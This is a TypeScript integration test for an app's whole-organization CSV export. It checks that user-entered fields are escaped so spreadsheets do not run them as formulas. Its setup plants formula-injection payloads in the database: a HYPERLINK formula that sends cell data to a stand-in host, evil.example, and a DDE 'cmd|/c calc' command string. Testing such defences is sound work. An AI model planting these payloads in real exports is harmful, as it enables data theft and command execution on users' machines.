// The whole-organization export against the real backend and Postgres, read by an owner through
// supabase-js as the Settings > Advanced screen reads it: no CSV file of the zip holds a field a
// spreadsheet would run as a formula, and signed amounts are still written as numbers.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestBackend, type TestBackend } from '@missionbase/backend/test/start-test-backend';
import { installWebSocketGlobal } from '@missionbase/backend/test/supabase-client';
import { configureSession, getSupabase, signUp } from '@missionbase/session';
import { exportOrganization } from './organization-export';

let backend: TestBackend;
let organizationId = '';

/** The stored (uncompressed) entries of a zip, by name. */
function zipEntries(zip: Uint8Array): Map<string, string> {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const files = new Map<string, string>();
  const decoder = new TextDecoder();
  for (let at = 0; view.getUint32(at, true) === 0x04034b50; ) {
    const size = view.getUint32(at + 18, true);
    const nameLength = view.getUint16(at + 26, true);
    const extraLength = view.getUint16(at + 28, true);
    const start = at + 30 + nameLength + extraLength;
    files.set(decoder.decode(zip.slice(at + 30, at + 30 + nameLength)), decoder.decode(zip.slice(start, start + size)));
    at = start + size;
  }
  return files;
}

/** RFC 4180 fields of a CSV text (quoted fields may hold commas, quotes and line breaks). */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (quoted && char === '"' && text[index + 1] === '"') {
      field += '"';
      index += 1;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && char === '\r' && text[index + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      index += 1;
    } else {
      field += char;
    }
  }
  return rows;
}

function rowsOf(csv: string): Record<string, string>[] {
  const [header = [], ...rows] = csvRows(csv.replace(/^\uFEFF/, ''));
  return rows.map((fields) => Object.fromEntries(header.map((name, index) => [name, fields[index] ?? ''])));
}

const LIVE_FORMULA = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d+)?|\.\d+)$/;

beforeAll(async () => {
  backend = await startTestBackend();
  installWebSocketGlobal();
  configureSession({ supabaseUrl: backend.url, supabaseAnonKey: backend.anonKey });
  const { user } = await signUp({ email: `export-${Date.now()}@example.org`, password: 'export-password-1', fullName: 'Ex Porter', organizationName: 'Export Pantry' });
  const [member] = await backend.admin.query<{ organization_id: string }>('select organization_id from public.organization_members where user_id = $1', [user?.id]);
  organizationId = member?.organization_id ?? '';
  const supabase = getSupabase();
  const transaction = await supabase.from('transactions').insert({ organization_id: organizationId, type: 'Expense', amount: 12.5, date: '2026-02-10', description: '=HYPERLINK("http://evil.example/?"&A1,"Click")' });
  expect(transaction.error).toBeNull();
  const donor = await supabase.from('donors').insert({ organization_id: organizationId, name: '@SUM(1+1)*cmd|/c calc', email: null });
  expect(donor.error).toBeNull();
  const vendor = await supabase.from('vendors').insert({ organization_id: organizationId, name: '+1+2', notes: '\t=1+1' });
  expect(vendor.error).toBeNull();
  const item = await supabase.from('inventory').insert({ organization_id: organizationId, sku: 'RICE-1', name: '-2+3 rice', unit: 'case', quantity_on_hand: 10, unit_cost: '1.00', reorder_level: 0 }).select('id').single();
  expect(item.error).toBeNull();
  const spoilage = await supabase.rpc('adjust_inventory', { p_inventory_id: item.data?.id ?? '', p_kind: 'spoilage', p_quantity: 2, p_reason: '=2+5' });
  expect(spoilage.error).toBeNull();
}, 180_000);

afterAll(async () => {
  await backend?.stop();
}, 60_000);

describe('the organization export', () => {
  it('holds no field a spreadsheet would run as a formula, and signed amounts stay numbers', async () => {
    const zip = zipEntries(new Uint8Array(await (await exportOrganization(organizationId, 'Export Pantry')).arrayBuffer()));
    const tables = [...zip].filter(([name]) => name.endsWith('.csv'));
    expect(tables.length).toBeGreaterThan(40);

    const live = tables.flatMap(([name, csv]) =>
      csvRows(csv.replace(/^\uFEFF/, '')).flatMap((fields) => fields.filter((field) => LIVE_FORMULA.test(field) && !PLAIN_NUMBER.test(field)).map((field) => `${name}: ${JSON.stringify(field)}`)),
    );
    expect(live).toEqual([]);

    const transactions = rowsOf(zip.get('tables/transactions.csv') ?? '');
    expect(transactions.map((row) => row.description)).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"Click")');
    expect(rowsOf(zip.get('tables/donors.csv') ?? '').map((row) => row.name)).toContain("'@SUM(1+1)*cmd|/c calc");
    expect(rowsOf(zip.get('tables/vendors.csv') ?? '').map((row) => [row.name, row.notes])).toContainEqual(["'+1+2", "'\t=1+1"]);

    const spoiled = rowsOf(zip.get('tables/stock_movements.csv') ?? '').find((row) => row.kind === 'spoilage');
    expect(spoiled?.reason).toBe("'=2+5");
    expect(Number(spoiled?.quantity)).toBe(-2);
    expect(spoiled?.quantity).toMatch(PLAIN_NUMBER);
    expect(spoiled?.value).toMatch(/^-\d/);
  });
});
